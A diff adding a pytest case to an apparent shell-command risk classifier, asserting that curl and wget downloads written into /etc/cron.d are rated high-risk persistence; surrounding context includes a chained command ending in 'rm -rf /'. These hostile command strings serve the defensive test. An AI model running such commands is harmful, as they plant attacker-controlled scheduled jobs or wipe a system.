@@ -60,6 +60,22 @@ def test_downloaded_code_is_as_risky_in_each_interpreter(interpreter: str, how: 
     assert (risk.level, rule(risk)) == (RiskLevel.HIGH, "download_and_run")
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -o /etc/cron.d/a {url}",
+        "curl -fsSLo /etc/cron.d/a {url}",
+        "curl --output=/etc/cron.d/a {url}",
+        "wget -qO /etc/cron.d/a {url}",
+        "wget -P /etc/cron.d {url}",
+        "cd /etc/cron.d && curl -sSLO {url}",
+    ],
+)
+def test_the_file_of_a_download_is_written(command: str) -> None:
+    risk = shell(command.format(url="https://files.example/a"))
+    assert (risk.level, rule(risk)) == (RiskLevel.HIGH, "persistence")
+
+
 def test_of_many_reasons_the_gravest_are_kept() -> None:
     many = "; ".join(f"echo x > /opt/{n}" for n in range(20)) + "; rm -rf /"
     risk = shell(many)
